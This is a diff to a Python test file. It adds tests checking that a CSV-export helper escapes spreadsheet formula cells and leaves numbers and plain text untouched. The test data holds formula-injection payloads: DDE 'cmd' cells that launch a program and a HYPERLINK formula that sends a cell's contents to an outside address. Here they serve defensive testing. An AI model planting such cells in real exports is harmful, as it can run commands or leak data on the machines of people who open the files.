@@ -1,6 +1,8 @@
 """Files that are there whole or not at all, also where the disk is full."""
 
+import csv
 import errno
+import io
 import os
 
 import pytest
@@ -12,6 +14,7 @@ from lib.files import (
     new_file,
     new_folder,
     size_text,
+    spreadsheet_csv,
     text_hash,
     write_if_changed,
     write_whole,
@@ -104,3 +107,55 @@ def test_hashes_of_files_and_texts_agree(tmp_path):
 def test_sizes_are_written_for_people():
     sizes = (812, 2_178_873, 999_999, 1_743_563_840)
     assert [size_text(size) for size in sizes] == ["812 bytes", "2.2 MB", "1.0 MB", "1.7 GB"]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "+cmd|'x'!A1",
+        "-cmd|'x'!A1",
+        "-1+cmd|'x'!A1",
+        "\t=1+1",
+        "\r=1",
+        "=1",
+        "- said the scout",
+        '=HYPERLINK("http://e.org?x="&A1,"a")',
+        "+1 e",
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_run_is_a_text(cell):
+    written = io.StringIO()
+    csv.writer(written).writerow(["word", cell, "-0.5"])
+    (row,) = csv.reader(io.StringIO(spreadsheet_csv(written.getvalue()), newline=""))
+    assert row == ["word", f"'{cell}", "-0.5"]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "-0.53",
+        "+0.20",
+        "-1.5e-07",
+        "-inf",
+        "-0.12 (-0.3 to +0.1)",
+        "+3 %",
+        "-",
+        "",
+        "she=he",
+        "−0.5",
+        "a-b",
+        "-0.1 [-0.3, 0.1]",
+        "two\nlines",
+        'a "word"',
+    ],
+)
+def test_numbers_and_other_texts_of_a_table_keep_their_bytes(cell):
+    written = io.StringIO()
+    csv.writer(written, lineterminator="\n").writerow(["word", cell])
+    assert spreadsheet_csv(written.getvalue()) == written.getvalue()
+
+
+def test_empty_cells_stay_empty_beside_a_formula():
+    assert spreadsheet_csv('a,b\n,=1\n"",\n') == 'a,b\n"",\'=1\n"",""\n'
